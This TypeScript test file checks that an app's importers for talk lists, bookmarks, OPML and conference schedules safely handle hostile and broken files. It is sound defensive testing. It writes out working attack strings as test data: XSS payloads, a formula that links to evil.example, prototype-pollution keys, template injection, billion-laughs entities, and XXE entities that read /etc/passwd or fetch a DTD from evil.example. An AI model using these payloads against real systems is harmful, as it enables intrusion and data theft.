/** Files made to do harm, for every reader: one value at a time in every field, and whole files that are broken or endless. */
import { describe, expect, it, vi } from 'vitest';
import { FORMATS } from '../../../formats/formats';
import { readFile } from '../../../formats/input/files';
import type { Imported } from '../../../formats/format';
import { sentenceOf } from '../../../formats/input/refusal';
import { expectHarmless } from './harmless';
import { SAMPLE } from './sample';

vi.setConfig({ testTimeout: 60_000 });

const json = JSON.stringify;
const xml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
const PAGE = 'https://conf.example/talk';

/** For each reader a file that holds a hostile text wherever text can stand, beside a talk that is in order. */
const FILES: Record<string, (text: string) => string> = {
  json: (text) =>
    json({
      format: 'talkshelf',
      version: 1,
      talks: [
        { ...SAMPLE[0], title: text, note: text, tags: [text], links: [{ url: text, kind: 'page' }], [text]: text },
        { ...SAMPLE[0], speakers: [{ name: text, url: text }], event: { name: text, url: text } },
        SAMPLE[0],
      ],
    }),
  csv: (text) => `title,url,tags,note\n${[text, PAGE, text, text].map(cell).join(',')}\n${['x', text].map(cell).join(',')}\nfine,${PAGE}\n`,
  bookmarks: (text) =>
    `<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p><DT><H3>${xml(text)}</H3><DL><p><DT><A HREF="${xml(text)}" ADD_DATE="${xml(text)}" TAGS="${xml(text)}">${text}</A><DD>${text}<DT><A HREF="${PAGE}">${xml(text)}</A></DL><p><DT><A HREF="${PAGE}">fine</A></DL>`,
  opml: (text) =>
    `<opml version="2.0"><body><outline text="${xml(text)}"><outline text="${xml(text)}" url="${PAGE}" category="${xml(text)}" created="${xml(text)}" _note="${xml(text)}"/><outline text="x" url="${xml(text)}"/></outline>${text}<outline text="fine" url="${PAGE}"/></body></opml>`,
  pyvideo: (text) =>
    json([
      { title: text, videos: [{ type: text, url: PAGE }], speakers: [text], tags: [text], description: text, recorded: text, [text]: 1 },
      { title: 'x', videos: [{ type: 'x', url: text }], related_urls: [text, { label: text, url: text }] },
      { title: 'fine', videos: [{ type: 'youtube', url: PAGE }] },
    ]),
  rubyevents: (text) =>
    `- title: ${json(text)}\n  video_provider: youtube\n  video_id: ${json(text)}\n  event_name: ${json(text)}\n  speakers: [${json(text)}]\n  date: ${json(text)}\n- title: fine\n  video_provider: youtube\n  video_id: abcdefghijk\n`,
  'schedule-json': (text) =>
    json({
      schedule: {
        base_url: text,
        conference: {
          title: text,
          time_zone_name: text,
          days: [
            {
              rooms: {
                [text]: [
                  { title: text, url: PAGE, date: text, duration: text, persons: [{ name: text }], links: [{ url: text, title: text }] },
                  { title: 'x', url: text },
                  { title: 'fine', url: PAGE },
                ],
              },
            },
          ],
        },
      },
    }),
  'schedule-xml': (text) =>
    `<schedule><conference><title>${xml(text)}</title><base_url>${xml(text)}</base_url></conference><day><room name="${xml(text)}"><event><title>${xml(text)}</title><url>${PAGE}</url><date>${xml(text)}</date><abstract>${xml(text)}</abstract><persons><person>${xml(text)}</person></persons><links><link href="${xml(text)}">x</link></links></event><event><title>x</title><url>${xml(text)}</url></event><event><title>fine</title><url>${PAGE}</url></event></room></day></schedule>`,
};

const TEXTS: [string, string][] = [
  ['a script address', 'javascript:alert(1)'],
  ['a script address in disguise', ' \tJaVa\nScRiPt:alert(1)'],
  ['a data address', 'data:text/html,<script>alert(1)</script>'],
  ['a vbscript address', 'vbscript:msgbox(1)'],
  ['a file address', 'file:///etc/passwd'],
  ['a blob address', 'blob:https://conf.example/1'],
  ['an address with a password', 'https://user:pass@conf.example/'],
  ['an endless address', `https://conf.example/${'a'.repeat(5000)}`],
  ['a broken address', 'https://[::1'],
  ['a script element', '<script>alert(1)</script>'],
  ['an element with a handler', '"><img src=x onerror=alert(1)>'],
  ['the end of everything', ']]></title></A></DL></outline></event>"}]}\'-->'],
  ['a formula', '=HYPERLINK("https://evil.example")'],
  ['a formula behind a tab', '\t+1'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['toString', 'toString'],
  ['NUL', 'a\u0000b'],
  ['all controls', Array.from({ length: 32 }, (_none, code) => String.fromCharCode(code)).join('')],
  ['a lone high surrogate', 'a\ud800b'],
  ['a lone low surrogate', '\udc00'],
  ['bidi overrides', 'a\u202eb\u2066c'],
  ['a mark of byte order', '\ufeffx'],
  ['characters that are none', 'a\ufffeb\uffff'],
  ['an entity', '&lol;&#0;&#xD800;&#99999999;'],
  ['only blanks', ' \n\t '],
  ['nothing', ''],
  ['a text without end', 'x'.repeat(30_000)],
  ['a thousand lines', 'x\n'.repeat(1000)],
  ['a template', '{{constructor.constructor("alert(1)")()}}'],
  ['a date far off', '99999-99-99T99:99:99+99:99'],
];

const BROKEN: [string, (file: string) => string | Uint8Array][] = [
  ['cut off in the middle', (file) => file.slice(0, file.length / 2)],
  ['cut off near the end', (file) => file.slice(0, -4)],
  ['going on behind its end', (file) => `${file}\u0000<>{}[]"`],
  ['with a NUL between any two characters', (file) => file.replace(/./gs, '$&\u0000')],
  ['as UTF-16 with its mark', (file) => Buffer.from(`\ufeff${file}`, 'utf16le')],
  ['as UTF-16 without a mark', (file) => Buffer.from(file, 'utf16le')],
  ['as Latin-1', (file) => Buffer.from(file.replaceAll('fine', 'fin\u00e9'), 'latin1')],
  [
    'with bytes that are no text behind its start',
    (file) => Buffer.concat([Buffer.from(file), Buffer.alloc(70_000, 0x20), Buffer.from([0xff, 0xfe, 0xc0])]),
  ],
  ['with each of its marks doubled', (file) => file.replace(/["<>{}[\]]/g, '$&$&')],
  ['all in capitals', (file) => file.toUpperCase()],
  ['a hundred thousand levels deep', (file) => file.slice(0, 60) + '{"a":['.repeat(100_000)],
  [
    'elements a hundred thousand levels deep',
    (file) => file.replace(/<(DL|outline|event|room)/, (tag) => '<outline text="x">'.repeat(100_000) + tag),
  ],
];

/** Entities that grow without end, or that fetch a file, in front of a file of each kind of markup. */
const LAUGHS = Array.from({ length: 12 }, (_none, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
const DOCTYPES: [string, string, string][] = ['opml', 'schedule-xml', 'bookmarks'].flatMap((id): [string, string, string][] => [
  [id, 'entities of entities', `<!DOCTYPE x [<!ENTITY l0 "lol">${LAUGHS}]>${FILES[id]?.('&l12;') ?? ''}`],
  [id, 'an entity of a file', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${FILES[id]?.('&f;') ?? ''}`],
  [id, 'a parameter entity of an address', `<!DOCTYPE x [<!ENTITY % f SYSTEM "https://evil.example/x.dtd">%f;]>${FILES[id]?.('x') ?? ''}`],
]);

async function readAll(name: string, content: string | Uint8Array): Promise<Imported[]> {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content;
  const items: Imported[] = [];
  for await (const { item } of readFile({ name, bytes: new Blob([new Uint8Array(bytes)]).stream() as never }, {})) items.push(item);
  return items;
}

describe('hostile files', () => {
  it('are tried on every reader', () => {
    const readers = [...FORMATS.values()].filter(({ ways }) => ways !== 'out').map(({ id }) => id);
    expect(Object.keys(FILES).sort()).toEqual(readers.sort());
    expect(readers.length * (TEXTS.length + BROKEN.length)).toBeGreaterThanOrEqual(200);
  });

  describe.each(Object.entries(FILES))('%s', (id, fileWith) => {
    it.each(TEXTS)('with %s lose nothing else', async (_name, text) => {
      const items = await readAll(`hostile.${id}`, fileWith(text));
      expectHarmless(items);
      expect(items.some((item) => 'talk' in item && /^(fine|Queues)/.test(item.talk.title))).toBe(true);
    });

    it.each(BROKEN)('%s are read as far as they go, or refused', async (_name, broken) => {
      const items = await readAll(`broken.${id}`, broken(fileWith('x')));
      expectHarmless(items);
      expect(items.length).toBeGreaterThan(0);
    });
  });

  it.each(DOCTYPES)('%s with %s fetch and expand nothing', async (id, _name, content) => {
    const items = await readAll(`hostile.${id}`, content);
    expectHarmless(items);
    expect(items.length).toBeGreaterThan(0);
    expect(JSON.stringify(items)).not.toMatch(/(?:lol){2}|root:/);
  });

  it.each(Object.entries(FILES))('%s say in one line what is refused, with the file and, for an item, its line', async (id, fileWith) => {
    const files = [fileWith('javascript:alert(1)'), ...BROKEN.map(([, broken]) => broken(fileWith('x')))];
    for (const file of files) {
      for (const item of await readAll(`list.${id}`, file)) {
        if (!('refused' in item)) continue;
        const sentence = sentenceOf(item, `list.${id}`);
        expect(sentence).toMatch(/^list\.[\w-]+(?::\d+)?: [A-Z][^\n]*$/);
        expect(sentence).not.toMatch(/\bat .*:\d+:\d+|Error\b|undefined|\[object/);
        // A whole file that is no text, or of no format, has no line to name; nor has a value of JSON, whose parser tells none.
        const named =
          item.line !== undefined || /^(encoding|unknown|empty|too large)$/.test(item.refused) || id.endsWith('json') || id === 'pyvideo';
        expect(named, sentence).toBe(true);
      }
    }
  });

  it.each([
    ['nothing at all', ''],
    ['blanks', ' \n\n '],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['prose', 'Dear reader, this is a letter.'],
    ['line ends without end', '\n'.repeat(100_000)],
    ['blanks without end', ' '.repeat(100_000)],
    ['dashes without end', '- '.repeat(100_000)],
    ['titles without end', '<title> '.repeat(20_000)],
    ['names without end', '"a":'.repeat(50_000)],
    ['an archive that is cut off', Buffer.from('504b0304140000000800', 'hex')],
    ['an archive of nonsense', Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.alloc(1000, 7)])],
  ])('%s are refused as a whole', async (_name, content) => {
    const items = await readAll('file.bin', content);
    expectHarmless(items);
    expect(items.filter((item) => !('refused' in item))).toEqual([]);
  });
});
